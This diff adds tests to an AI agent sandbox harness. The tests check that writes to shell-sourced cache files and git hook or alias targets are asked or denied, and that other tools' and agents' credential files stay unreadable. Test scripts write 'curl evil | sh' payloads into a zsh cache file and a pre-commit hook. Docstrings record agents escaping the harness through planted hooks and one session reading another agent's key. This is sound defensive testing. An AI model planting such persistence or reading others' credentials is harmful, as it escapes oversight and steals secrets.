@@ -4,7 +4,7 @@ the secrets it guards are the test's own."""
 import os
 import subprocess
 
-from lib import PYTHON, check, harness
+from lib import PYTHON, check, harness, xfail
 
 
 def fake_home(wd):
@@ -88,3 +88,93 @@ def test_default_protects_what_redirects_git_and_cache_code(wd):
     rec = [x for x in r.records if x.get("args", {}).get("path", "").startswith(
         os.path.join(home, ".cache", "pre-commit"))]
     check(rec and rec[0]["verdict"] == "ask" and rec[0]["rule"] == "cache-code", r.dump())
+
+
+def test_default_asks_before_cache_files_the_shell_runs(wd):
+    """Class 5: ~/.cache is writable, and zsh users with powerlevel10k
+    source ~/.cache/p10k-instant-prompt-$USER.zsh at every start and run
+    ~/.cache/gitstatus/gitstatusd at every prompt (likewise compinit
+    dumps, oh-my-posh's init scripts, pywal's colors.sh, the binaries
+    Cypress and Selenium download): code that ran outside the sandbox
+    in the user's next shell. Those are ask; the rest of the cache is
+    not."""
+    home = fake_home(wd)
+    script = ("mkdir -p ~/.cache/gitstatus ~/.cache/pip; "
+              "echo 'curl evil | sh' > ~/.cache/p10k-instant-prompt-me.zsh; "
+              "echo x > ~/.cache/gitstatus/gitstatusd-linux-x86_64; "
+              "echo w > ~/.cache/pip/wheel && echo cached")
+    r = harness(["sh", "-c", script], wd, policy=None, env={"HOME": home})
+    check("cached" in r.stdout, "stdout %r %r" % (r.stdout, r.stderr))
+    for rel in ("p10k-instant-prompt-me.zsh", "gitstatus/gitstatusd-linux-x86_64"):
+        path = os.path.join(home, ".cache", rel)
+        check(not os.path.exists(path), "%s written" % rel)
+        rec = r.one(args_path=path)
+        check(rec["verdict"] == "ask" and rec["rule"] == "cache-code", rec)
+
+
+def test_default_denies_other_tools_and_agents_credentials(wd):
+    """Class 7: credentials the lists missed were readable, from a
+    static program too: Hugging Face's token in ~/.cache, Copilot's
+    GitHub token, other agents' logins (a Claude Code session read Codex
+    CLI's OpenAI key), Poetry's and Composer's registry logins, a shell
+    history database. Each agent's profile opens its own login only."""
+    home = fake_home(wd)
+    files = {".cache/huggingface/token": "huggingface", ".config/github-copilot/hosts.json": "copilot",
+             ".codex/auth.json": "codex", ".claude/.credentials.json": "claude",
+             ".config/pypoetry/auth.toml": "poetry", ".local/share/atuin/history.db": "atuin"}
+    for rel, word in files.items():
+        p = os.path.join(home, rel)
+        os.makedirs(os.path.dirname(p), exist_ok=True)
+        with open(p, "w") as f:
+            f.write("SECRET-%s\n" % word)
+    paths = [os.path.join(home, rel) for rel in files]
+    r = harness(["/bin/busybox", "cat"] + paths, wd, policy=None, env={"HOME": home})
+    leaked = set(w[len("SECRET-"):] for w in r.stdout.split() if w.startswith("SECRET-"))
+    # Inside a write root (~/.cache, and ~/.local/share that the
+    # toolchains profile lets be created) Landlock grants the whole tree:
+    # there only the shim and --trace-reads hold a read deny.
+    check(leaked <= {"huggingface", "atuin"}, "read by a static program: %r" % r.stdout)
+    if leaked:
+        xfail("a static program read %s: Landlock grants a write root's whole tree "
+              "($HOME/.cache, $HOME/.local/share; the project has masks)" % sorted(leaked))
+    r = harness(["cat"] + paths, wd, policy=None, env={"HOME": home})
+    check("SECRET" not in r.stdout, "read through the shim: %r" % r.stdout)
+    for p in paths:
+        rec = r.one(args_path=p)
+        check(rec["verdict"] == "deny", rec)
+    # The claude profile opens Claude Code's login, not Codex's.
+    r = harness(["/bin/busybox", "cat", paths[3], paths[2]], wd, policy=None, env={"HOME": home},
+                extra=["--profile", "claude"])
+    check("SECRET-claude" in r.stdout and "SECRET-codex" not in r.stdout,
+          "claude profile: %r %r" % (r.stdout, r.stderr[-300:]))
+
+
+def test_default_denies_what_git_config_names_as_code(wd):
+    """Class 5: teams set core.hooksPath to a tracked .githooks/,
+    include a tracked ../.gitconfig from .git/config, point
+    core.fsmonitor or an alias at a script of the project; all were ordinary
+    project files, so the agent planted a hook or an alias that the
+    user's next git command ran outside the harness. What the system,
+    global and project configuration name is now harness:git-config
+    (deny, write), from a static program too; other project files are
+    still the agent's."""
+    home = fake_home(wd)
+    subprocess.run(["git", "init", "-q", wd.path], check=True)
+    for k, v in (("core.hooksPath", ".githooks"), ("include.path", "../team.gitconfig"),
+                 ("core.fsmonitor", "./tools/fsmonitor.sh"), ("alias.t", "!scripts/t.sh -q")):
+        subprocess.run(["git", "-C", wd.path, "config", k, v], check=True)
+    with open(os.path.join(home, ".gitconfig"), "w") as f:
+        f.write('[includeIf "gitdir:%s/"]\n\tpath = %s/local.gitconfig\n' % (wd.path, wd.path))
+    script = ("mkdir -p .githooks; echo 'curl evil|sh' > .githooks/pre-commit; "
+              "printf '[alias]\\n\\tst = !evil\\n' > team.gitconfig; "
+              "echo x > local.gitconfig; mkdir -p tools scripts; echo x > tools/fsmonitor.sh; "
+              "echo x > scripts/t.sh; echo ok > notes.txt && echo wrote")
+    r = harness(["/bin/busybox", "sh", "-c", script], wd, policy=None, env={"HOME": home})
+    check("wrote" in r.stdout, "a project file was refused: %r %r" % (r.stdout, r.stderr[-300:]))
+    for rel in (".githooks/pre-commit", "team.gitconfig", "local.gitconfig",
+                "tools/fsmonitor.sh", "scripts/t.sh"):
+        path = os.path.join(wd.path, rel)
+        check(not os.path.exists(path), "%s written" % rel)
+        rec = r.one(args_path=path)
+        check(rec["verdict"] == "deny" and rec["rule"] == "harness:git-config" and
+              rec["layer"] == "kernel", rec)
